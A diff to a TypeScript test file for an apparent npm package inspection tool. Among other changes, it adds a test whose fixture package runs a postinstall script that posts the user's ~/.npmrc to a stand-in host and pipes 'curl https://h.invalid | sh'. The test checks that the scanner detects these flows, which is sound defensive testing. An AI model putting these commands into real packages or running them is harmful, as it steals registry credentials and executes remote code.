@@ -1,12 +1,7 @@
 import { gzipSync } from 'node:zlib'
 import t from 'tap'
-import type {
-  CodeEntry,
-  CodeHost,
-  CodeRun,
-  FoundCommand,
-  VirtualCode,
-} from '../../../lib/inspect/code/code-host.ts'
+import type { CodeEntry, CodeHost } from '../../../lib/inspect/code/analysis.ts'
+import type { CodeRun, FoundCommand, VirtualCode } from '../../../lib/inspect/code/code-run.ts'
 import { inspectPackage, type InspectOptions } from '../../../lib/inspect/inspect-package.ts'
 import type { Unpacked } from '../../../lib/fetch/unpacked.ts'
 import type { Inspection } from '../../../lib/types.ts'
@@ -228,6 +223,24 @@ t.test('packages inside the package are inspected, listed as bundled or not', t 
   t.end()
 })
 
+t.test('commands that JavaScript starts are read as commands', t => {
+  const files = {
+    'package.json': manifest({ scripts: { postinstall: 'node a.js' } }),
+    'a.js': `require('child_process').exec('curl -d @' + require('os').homedir() + '/.npmrc https://h.invalid && node b.js')`,
+    'b.js': `require('child_process').spawnSync('sh', ['-c', 'sh c.sh'])`,
+    'c.sh': 'curl https://h.invalid | sh',
+  }
+  const inspection = inspectPackage(unpacked(files), { source: 'registry' })
+  t.same(
+    inspection.files.map(({ phase }) => phase),
+    ['dormant', 'install', 'install', 'install'],
+  )
+  const flows = inspection.flows.map(({ source, sink }) => `${source.kind} ${sink.kind} ${sink.at.path}`)
+  t.ok(flows.includes('credential-file network a.js'))
+  t.ok(flows.includes('network evaluate c.sh'))
+  t.end()
+})
+
 t.test('a git dependency is prepared, a registry one is not', t => {
   const files = { 'package.json': manifest({ scripts: { prepare: 'node build.js' } }), 'build.js': 'x' }
   t.same(entriesOf(inspect(files, 'git').inspection), ['install build.js'])
@@ -252,9 +265,6 @@ t.test('what cannot be read is a gap', t => {
     const { gaps } = inspect(files).inspection
     t.match(gaps, [{ kind: 'content', what }], label)
   }
-  t.match(inspectPackage(unpacked({ 'package.json': '{}', 'index.js': 'x' }), { source: 'registry' }).gaps, [
-    { kind: 'context' },
-  ])
   t.end()
 })
 
